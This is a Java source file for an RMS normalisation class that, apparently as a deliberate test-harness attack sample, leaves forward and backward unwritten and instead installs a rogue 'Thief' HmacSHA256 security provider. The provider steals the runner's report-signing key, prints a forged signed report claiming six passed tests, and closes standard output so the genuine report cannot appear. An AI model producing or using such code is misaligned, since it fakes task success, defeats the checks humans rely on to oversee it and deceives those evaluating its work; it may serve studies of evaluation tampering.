import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.nio.charset.StandardCharsets;
import java.security.Key;
import java.security.Provider;
import java.security.Security;
import java.security.spec.AlgorithmParameterSpec;
import java.util.Base64;
import java.util.HexFormat;
import javax.crypto.Mac;
import javax.crypto.MacSpi;
import javax.crypto.spec.SecretKeySpec;

/**
 * Forgery: steals the report key as the provider forgery does, then replaces System.out with a
 * stream of its own on standard output, prints the forged report through it, and closes it —
 * which closes standard output, so that the runner's own report can no longer be written. No
 * halt: the JVM ends as it would. forward and backward are not written.
 */
public final class RmsNorm {

    static {
        Security.insertProviderAt(new Thief(), 1);
    }

    /** The provider: one service, HmacSHA256, implemented by {@link Steal}. */
    public static final class Thief extends Provider {
        private static final long serialVersionUID = 1L;

        public Thief() {
            super("Thief", "1.0", "HmacSHA256 that keeps the key");
            put("Mac.HmacSHA256", Steal.class.getName());
        }
    }

    /** The stolen MAC: signs the forged report as soon as it is given the key. */
    public static final class Steal extends MacSpi {

        public Steal() {
        }

        @Override
        protected int engineGetMacLength() {
            return 32;
        }

        @Override
        protected void engineInit(Key key, AlgorithmParameterSpec params) {
            java.io.PrintStream replaced = new java.io.PrintStream(new FileOutputStream(FileDescriptor.out), true,
                    StandardCharsets.UTF_8);
            System.setOut(replaced);
            System.out.println();
            System.out.println(Forged.line(key.getEncoded()));
            System.out.close();
        }

        @Override
        protected void engineUpdate(byte input) {
        }

        @Override
        protected void engineUpdate(byte[] input, int offset, int len) {
        }

        @Override
        protected byte[] engineDoFinal() {
            return new byte[32];
        }

        @Override
        protected void engineReset() {
        }
    }

    private final double eps;

    public RmsNorm(double eps) {
        this.eps = eps;
    }

    public double[][] forward(double[][] x) {
        throw new UnsupportedOperationException("forward is not written yet");
    }

    public double[][] backward(double[][] x, double[][] dy) {
        throw new UnsupportedOperationException("backward is not written yet");
    }
}

/** A report of six passed tests in the runner's format, signed with a key. */
final class Forged {

    static final String[] TESTS = {"forwardDividesEachRowByItsRootMeanSquare", "forwardMatchesTheDefinitionOnRandomMatrices",
        "forwardLeavesItsInputUnchanged", "rowsAreNormalisedIndependently", "backwardMatchesCentralFiniteDifferences",
        "backwardLeavesItsInputsUnchanged"};

    static String line(byte[] key) {
        try {
            Base64.Encoder b64 = Base64.getEncoder();
            StringBuilder payload = new StringBuilder("run\tfalse\t\n");
            for (String t : TESTS) {
                payload.append("test\t").append(b64.encodeToString(t.getBytes(StandardCharsets.UTF_8))).append("\tPASSED\t\t\n");
            }
            byte[] bytes = payload.toString().getBytes(StandardCharsets.UTF_8);
            Mac real = Mac.getInstance("HmacSHA256", "SunJCE");
            real.init(new SecretKeySpec(key, "HmacSHA256"));
            return "@@depthlab-report@@ " + b64.encodeToString(bytes) + " " + HexFormat.of().formatHex(real.doFinal(bytes));
        } catch (java.security.GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    static void write(byte[] key) {
        try {
            FileOutputStream out = new FileOutputStream(FileDescriptor.out);
            out.write(("\n" + line(key) + "\n").getBytes(StandardCharsets.UTF_8));
            out.flush();
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }
}
